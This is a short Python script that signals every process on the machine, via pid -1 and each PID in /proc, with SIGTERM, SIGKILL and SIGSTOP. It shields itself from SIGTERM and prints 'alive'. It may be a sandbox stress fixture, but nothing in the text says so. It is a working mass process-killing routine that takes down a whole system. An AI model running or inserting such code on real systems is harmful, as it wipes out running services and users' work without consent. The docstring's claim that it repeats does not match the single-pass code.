"""Kills all that it sees, again and again."""
import os, signal, time
for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
    for pid in [-1] + [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
        try:
            if number == signal.SIGTERM and pid == -1:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.kill(pid, number)
        except OSError:
            pass
print("alive", flush=True)
